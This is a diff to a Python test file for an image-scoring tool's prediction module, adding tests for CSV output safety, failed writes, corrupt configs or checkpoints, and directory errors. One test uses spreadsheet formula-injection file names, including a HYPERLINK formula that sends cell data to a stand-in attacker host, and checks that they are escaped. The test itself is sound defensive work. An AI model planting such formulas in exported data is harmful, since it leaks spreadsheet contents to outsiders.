@@ -7,8 +7,10 @@ features the run itself computed for its pool and validation images.
 """
 
 import csv
+import glob
 import json
 import os
+import shutil
 import subprocess
 import sys
 
@@ -111,7 +113,7 @@ def test_folder_csv_equals_the_runs_scores(folder_workdir, tmp_path):
 def test_top_k_threshold_and_dataset_images(folder_workdir):
   images, workdir, run, probabilities = folder_workdir
   scorer = predict.load_scorer(workdir, log=lambda _: None)
-  assert scorer.category == "positive" and scorer.round == 1
+  assert scorer.category == "the category" and scorer.round == 1  # seeds given as a file list
   rows = predict.score_folder(scorer, images, log=lambda _: None)
   top = predict.select_rows(rows, top_k=3, threshold=None)
   assert len(top) == 3 and top[0][2] >= top[1][2] >= top[2][2]
@@ -203,3 +205,90 @@ def test_dataset_run_refits_the_same_projection(tmp_path):
   got = np.array([rows[i][2] for i in task.val_ids])
   np.testing.assert_allclose(got, expected, atol=1e-6)
   assert rows[int(task.val_ids[0])][1] == evaluation.class_names[task.val_labels[0]]
+
+
+def test_csv_of_odd_file_names_is_utf8_and_safe_in_a_spreadsheet(tmp_path):
+  out = str(tmp_path / "scores.csv")
+  undecodable = os.fsdecode(b"photos/\xff\xfeimg.png")  # not UTF-8: surrogate escapes
+  names = [
+    undecodable,
+    '=HYPERLINK("http://evil.example/?x="&A1,"click").png',
+    "+1.png",
+    "-2.png",
+    "@SUM(A1).png",
+    "\tcell.png",
+    "\rcell.png",
+    "caf\u00e9/ok.png",
+    "a=b.png",
+  ]
+  predict.write_csv(out, ("id", "path", "score"), [(i, n, 0.5) for i, n in enumerate(names)])
+  data = open(out, "rb").read()
+  data.decode("utf-8")  # valid UTF-8 throughout
+  header, rows = _read_csv(out)
+  assert header == ["id", "path", "score"]
+  assert [r[1] for r in rows] == [
+    "photos/\\xff\\xfeimg.png",
+    "'" + names[1],
+    "'+1.png",
+    "'-2.png",
+    "'@SUM(A1).png",
+    "'\tcell.png",
+    "'\rcell.png",
+    "caf\u00e9/ok.png",
+    "a=b.png",
+  ]
+  assert [r[2] for r in rows] == ["0.500000"] * len(names)  # numbers stay numbers
+  assert glob.glob(str(tmp_path / "*.tmp")) == []
+
+
+def test_a_failed_csv_write_leaves_no_file(tmp_path):
+  out = str(tmp_path / "scores.csv")
+  rows = [(0, "a.png", 0.5), (1, "b.png", None)]  # the second row fails mid-file
+  with pytest.raises(TypeError):
+    predict.write_csv(out, ("id", "path", "score"), rows)
+  assert os.listdir(tmp_path) == []
+  with pytest.raises(ValueError, match="is a directory"):
+    predict.write_csv(str(tmp_path), ("id", "path", "score"), [(0, "a.png", 0.5)])
+  assert os.listdir(tmp_path) == []
+
+
+def test_a_damaged_config_or_checkpoint_is_named(folder_workdir, tmp_path):
+  _, workdir, _, _ = folder_workdir
+  config_broken = str(tmp_path / "config_broken")
+  shutil.copytree(workdir, config_broken)
+  with open(os.path.join(config_broken, "config.json"), "w") as f:
+    f.write('{"seed": 0,')
+  with pytest.raises(ValueError, match="config.json is not valid JSON"):
+    predict.load_scorer(config_broken, log=lambda _: None)
+  checkpoint_broken = str(tmp_path / "checkpoint_broken")
+  shutil.copytree(workdir, checkpoint_broken)
+  step = os.path.join(checkpoint_broken, "ours_linear", "checkpoints", "1")
+  for path in glob.glob(os.path.join(step, "**"), recursive=True):
+    if os.path.isfile(path):
+      with open(path, "wb") as f:
+        f.write(b"garbage")
+  with pytest.raises(ValueError, match="checkpoint step 1 in .*checkpoint_broken.* cannot be"):
+    predict.load_scorer(checkpoint_broken, log=lambda _: None)
+
+
+def test_out_a_directory_is_a_clear_error(folder_workdir, tmp_path):
+  images, workdir, _, _ = folder_workdir
+  result = subprocess.run(
+    [
+      sys.executable,
+      "-m",
+      "rare_jax.predict",
+      f"--workdir={workdir}",
+      f"--images={images}",
+      f"--out={tmp_path}",
+    ],
+    cwd=REPO,
+    env=_env(),
+    capture_output=True,
+    text=True,
+    timeout=300,
+  )
+  assert result.returncode == 2, result.stderr
+  assert "Traceback" not in result.stderr and "is a directory" in result.stderr
+  assert "scored" not in result.stderr  # refused before the work
+  assert os.listdir(tmp_path) == []
